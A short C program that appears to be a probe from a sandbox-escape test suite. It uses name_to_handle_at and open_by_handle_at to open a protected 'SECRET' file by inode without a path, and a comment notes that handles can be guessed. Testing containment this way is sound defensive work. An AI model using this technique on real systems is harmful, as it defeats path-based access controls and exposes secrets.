// technique: name_to_handle_at on the key, then open_by_handle_at (opens by inode, no path)
#include "adv.h"
int main(void) {
	struct { struct file_handle h; unsigned char b[128]; } fh;
	fh.h.handle_bytes = 128;
	int mnt;
	int r = name_to_handle_at(AT_FDCWD, adv("SECRET"), &fh.h, &mnt, 0);
	printf("name_to_handle_at: %d %s\n", r, r ? strerror(errno) : "");
	int m = open("/", O_PATH | O_DIRECTORY);
	/* even without the first call a handle can be guessed: try the README's handle kind */
	int fd = open_by_handle_at(m, &fh.h, O_RDONLY);
	if (fd < 0) { printf("open_by_handle_at: %s\n", strerror(errno)); return 0; }
	dump("by handle", fd);
	return 0;
}
